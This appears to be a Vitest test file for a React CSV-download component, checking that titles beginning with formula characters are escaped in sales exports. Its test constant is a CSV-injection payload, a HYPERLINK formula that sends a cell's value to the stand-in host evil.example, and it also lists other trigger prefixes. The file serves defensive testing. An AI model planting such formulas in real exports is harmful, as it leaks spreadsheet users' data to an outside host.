import { cleanup, render, screen } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { CsvLink } from './csv-link';

/**
 * Issue 29, item 6: a video titled with a formula (a studio-intake manifest can carry one) landed
 * unescaped in the manager's sales and royalty-statement CSVs. They go through the one CSV helper
 * of every export (app/lib/csv.ts), which defuses such cells as the admin and affiliate exports do.
 */
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

function downloaded(rows: (string | number)[][]): string[] {
  render(<CsvLink filename="sales.csv" header={['Title', 'Gross']} rows={rows} />);
  const href = screen.getByRole('link', { name: 'Download CSV' }).getAttribute('href') ?? '';
  return decodeURIComponent(href.replace(/^data:text\/csv;charset=utf-8,/, '')).split('\r\n');
}

afterEach(cleanup);

describe('the manager CSV download', () => {
  it('defuses a formula in a title: the spreadsheet shows it as text', () => {
    const lines = downloaded([[FORMULA, 12.5]]);
    expect(lines[1]).toBe(`"'${FORMULA.replace(/"/g, '""')}",12.5`);
  });

  it.each(['+cmd', '-2+3', '@SUM(A1)', '\tTAB'])('defuses %j too', (cell) => {
    expect(downloaded([[cell, 1]])[1]).toMatch(/^"?'/);
  });

  it('keeps numbers, negative ones included, as numbers', () => {
    expect(downloaded([['Refund', -12.5]])[1]).toBe('Refund,-12.5');
  });
});
